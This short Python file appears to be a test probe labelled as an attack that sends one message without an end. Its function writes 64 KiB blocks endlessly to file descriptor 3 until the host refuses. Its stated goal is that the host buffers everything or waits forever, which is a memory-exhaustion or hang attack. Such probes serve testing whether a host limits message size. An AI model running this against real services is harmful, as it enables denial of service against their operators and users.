# attack: send one message without an end
# success: the host keeps all of it in memory, or waits for ever
import os


def go(input):
    block = b"x" * 65536
    try:
        while True:
            os.write(3, block)
    except OSError:
        return "refused"
